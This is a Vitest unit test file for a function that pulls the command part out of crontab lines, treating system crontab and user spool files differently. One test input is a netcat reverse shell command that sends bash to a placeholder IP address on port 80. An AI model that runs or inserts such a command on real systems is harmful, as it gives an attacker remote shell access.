import { describe, expect, it } from 'vitest'
import { cronCommand } from './cron.ts'

describe('cronCommand', () => {
  it.each([
    ['root   /usr/bin/job -x', '/etc/crontab', '/usr/bin/job -x'],
    ['www-data cd / && job', '/etc/cron.d/job', 'cd / && job'],
    ['root /usr/bin/job', '', '/usr/bin/job'],
    ['/usr/bin/job', '/var/spool/cron/crontabs/root', '/usr/bin/job'],
    ['date +\\%F', '/var/spool/cron/ada', 'date +%F'],
    ['job', '/etc/cron.d/job', 'job'],
    ['/bin/sh -c job', '/etc/crontab', '/bin/sh -c job'],
    ['nc -e /bin/bash 192.0.2.1 80', '/etc/crontab', 'nc -e /bin/bash 192.0.2.1 80'],
    ['shop /usr/bin/job', '/etc/crontab', '/usr/bin/job'],
    ['', '', ''],
  ])('of %j in %j is %j', (command, path, own) => {
    expect(cronCommand({ command, path })).toBe(own)
  })
})
